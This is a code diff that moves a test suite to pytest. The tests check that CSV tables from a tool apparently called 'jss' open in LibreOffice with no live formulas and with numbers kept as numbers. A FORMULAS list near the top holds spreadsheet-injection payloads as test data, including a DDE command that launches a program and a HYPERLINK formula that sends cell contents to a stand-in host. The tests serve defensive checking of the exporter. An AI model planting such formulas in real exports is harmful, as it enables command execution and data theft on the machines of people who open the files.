@@ -1,18 +1,17 @@
-"""What a spreadsheet makes of the tables: LibreOffice opens them, and finds no formula and every number (6.5).
-JSS names the program."""
+"""What a spreadsheet makes of the tables: LibreOffice opens them, and finds no formula and every number (6.5)."""
 
 import csv
 import json
 import os
-import pathlib
 import shutil
 import subprocess
-import tempfile
-import unittest
 import xml.etree.ElementTree as ElementTree
 
+import pytest
+
+pytestmark = [pytest.mark.spreadsheet, pytest.mark.needs("soffice")]
+
 AS_OF = "2024-08-31"
-OFFICE = shutil.which("soffice")
 # Texts that a spreadsheet would compute, ask a program for, or send away.
 FORMULAS = [
     "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|'/C calc'!A0", '=HYPERLINK("http://pages.invalid/"&A1;"x")',
@@ -65,92 +64,92 @@ def read_sheet(path):
     return rows
 
 
-@unittest.skipUnless(OFFICE or os.environ.get("CI"), "there is no LibreOffice here (Debian's libreoffice-calc)")
-class Spreadsheet(unittest.TestCase):
-    @classmethod
-    def setUpClass(cls):
-        temporary = tempfile.TemporaryDirectory()
-        cls.addClassCleanup(temporary.cleanup)
-        cls.folder = pathlib.Path(temporary.name)
-        market, out = cls.folder / "market", cls.folder / "out"
-        cls.tables = cls.folder / "tables"
+class Opened:
+    """The tables of runs and commands over the market of formulas, as they are and as LibreOffice reads them."""
+
+    def __init__(self, program, folder):
+        self.program, self.folder, self.tables = program, folder, folder / "tables"
+        market, out = folder / "market", folder / "out"
         market.mkdir()
-        cls.tables.mkdir()
+        self.tables.mkdir()
         write_market(market)
-        cls.jss("run", market, "--out", out, "--pages", "0")
-        cls.jss("run", market, "--out", cls.folder / "talent", "--pages", "0", "--audience", "talent")
-        cls.jss("run", market, "--out", cls.folder / "strict", "--strict", code=65)
-        cls.package = json.loads((out / "latest/datapackage.json").read_text(encoding="utf-8"))
-        places = {"": out / "latest", "talent-": cls.folder / "talent/latest", "failed-": cls.folder / "strict/failed"}
+        self.jss("run", market, "--out", out, "--pages", "0")
+        self.jss("run", market, "--out", folder / "talent", "--pages", "0", "--audience", "talent")
+        self.jss("run", market, "--out", folder / "strict", "--strict", code=65)
+        self.package = json.loads((out / "latest/datapackage.json").read_text(encoding="utf-8"))
+        places = {"": out / "latest", "talent-": folder / "talent/latest", "failed-": folder / "strict/failed"}
         for prefix, place in places.items():
             for table in place.glob("*.csv"):
-                shutil.copy(table, cls.tables / (prefix + table.name))
+                shutil.copy(table, self.tables / (prefix + table.name))
         for name in ["validate", "score", "actions"]:
-            (cls.tables / f"answer-{name}.csv").write_bytes(cls.jss(name, market))
-        write(cls.tables / "unguarded.csv", [["text", "number"]] + [[text, "-1.5"] for text in FORMULAS])
-        cls.sheets = cls.convert(sorted(cls.tables.glob("*.csv")))
+            (self.tables / f"answer-{name}.csv").write_bytes(self.jss(name, market))
+        write(self.tables / "unguarded.csv", [["text", "number"]] + [[text, "-1.5"] for text in FORMULAS])
+        self.sheets = self.convert(sorted(self.tables.glob("*.csv")))
 
-    @classmethod
-    def jss(cls, command, market, *arguments, code=0):
+    def jss(self, command, market, *arguments, code=0):
         reading = [] if "--strict" in arguments else ["--max-rejects", "100%"]
         day = [] if command == "validate" else ["--as-of", AS_OF]
         done = subprocess.run(
-            [os.environ["JSS"], command, market, *arguments, *reading, *day, "--quiet"], capture_output=True, check=False
+            [self.program, command, market, *arguments, *reading, *day, "--quiet"], capture_output=True, check=False
         )
         assert done.returncode == code, done.stderr.decode()
         return done.stdout
 
-    @classmethod
-    def convert(cls, tables):
+    def convert(self, tables):
         """Each table as LibreOffice reads it, all in one start of it."""
-        profile = (cls.folder / "profile").as_uri()
+        profile = (self.folder / "profile").as_uri()
         subprocess.run(
-            [OFFICE, "--headless", f"-env:UserInstallation={profile}", "--convert-to", "fods", "--outdir",
-             str(cls.folder / "sheets"), *map(str, tables)],
-            capture_output=True, check=True, timeout=300, env=os.environ | {"HOME": str(cls.folder)},
+            ["soffice", "--headless", f"-env:UserInstallation={profile}", "--convert-to", "fods", "--outdir",
+             str(self.folder / "sheets"), *map(str, tables)],
+            capture_output=True, check=True, timeout=300, env=os.environ | {"HOME": str(self.folder)},
         )
-        return {table.name: read_sheet(cls.folder / "sheets" / (table.stem + ".fods")) for table in tables}
+        return {table.name: read_sheet(self.folder / "sheets" / (table.stem + ".fods")) for table in tables}
 
     def plain(self, name):
         with open(self.tables / name, encoding="utf-8", newline="") as file:
             return list(csv.reader(file))
 
-    def test_it_would_compute_what_is_not_guarded(self):
-        formulas = [cell for row in self.sheets["unguarded.csv"] for cell in row if cell[0]]
-        self.assertGreaterEqual(len(formulas), 6)
 
-    def test_no_table_holds_a_formula(self):
-        self.assertGreaterEqual(len(self.sheets), 16)
-        for name, sheet in self.sheets.items():
-            if name != "unguarded.csv":
-                self.assertEqual([cell for row in sheet for cell in row if cell[0]], [], name)
-
-    def test_hostile_text_did_get_there(self):
-        for name in ["rejects.csv", "failed-rejects.csv", "answer-validate.csv"]:
-            rows = self.plain(name)[1:]
-            self.assertGreater(len(rows), 10 * len(FORMULAS))
-            records = [record for *_, record in rows if record.lstrip("'\"")[:1] in "=+-@\t\r"]
-            self.assertGreater(len(records), len(FORMULAS))
-            self.assertEqual([record for record in records if record[:1] not in "'\""], [])
-
-    def test_numbers_stay_numbers_and_text_stays_text(self):
-        numbers = 0
-        for resource in self.package["resources"]:
-            rows, sheet = self.plain(resource["path"]), self.sheets[resource["path"]]
-            self.assertEqual([cell[2] for cell in sheet[0]][: len(rows[0])], rows[0])
-            if resource["path"] == "rejects.csv":
-                continue  # lines within cells: rows of the sheet are the same, its text is checked above
-            for row, cells in zip(rows[1:], sheet[1:]):
-                for value, field, (_, kind, text) in zip(row, resource["schema"]["fields"], cells):
-                    if not value:
-                        continue
-                    if field["type"] in ("integer", "number"):
-                        self.assertEqual(kind, "float", (resource["path"], field["name"], value))
-                        numbers += 1
-                    elif field["type"] == "string":
-                        self.assertEqual((kind, text), ("string", value))
-        self.assertGreater(numbers, 200)
+@pytest.fixture(scope="module")
+def opened(jss, tmp_path_factory):
+    return Opened(jss, tmp_path_factory.mktemp("spreadsheet"))
 
 
-if __name__ == "__main__":
-    unittest.main()
+def test_it_would_compute_what_is_not_guarded(opened):
+    formulas = [cell for row in opened.sheets["unguarded.csv"] for cell in row if cell[0]]
+    assert len(formulas) >= 6
+
+
+def test_no_table_holds_a_formula(opened):
+    assert len(opened.sheets) >= 16
+    for name, sheet in opened.sheets.items():
+        if name != "unguarded.csv":
+            assert [cell for row in sheet for cell in row if cell[0]] == [], name
+
+
+def test_hostile_text_did_get_there(opened):
+    for name in ["rejects.csv", "failed-rejects.csv", "answer-validate.csv"]:
+        rows = opened.plain(name)[1:]
+        assert len(rows) > 10 * len(FORMULAS)
+        records = [record for *_, record in rows if record.lstrip("'\"")[:1] in "=+-@\t\r"]
+        assert len(records) > len(FORMULAS)
+        assert [record for record in records if record[:1] not in "'\""] == []
+
+
+def test_numbers_stay_numbers_and_text_stays_text(opened):
+    numbers = 0
+    for resource in opened.package["resources"]:
+        rows, sheet = opened.plain(resource["path"]), opened.sheets[resource["path"]]
+        assert [cell[2] for cell in sheet[0]][: len(rows[0])] == rows[0]
+        if resource["path"] == "rejects.csv":
+            continue  # lines within cells: rows of the sheet are the same, its text is checked above
+        for row, cells in zip(rows[1:], sheet[1:]):
+            for value, field, (_, kind, text) in zip(row, resource["schema"]["fields"], cells):
+                if not value:
+                    continue
+                if field["type"] in ("integer", "number"):
+                    assert kind == "float", (resource["path"], field["name"], value)
+                    numbers += 1
+                elif field["type"] == "string":
+                    assert (kind, text) == ("string", value)
+    assert numbers > 200
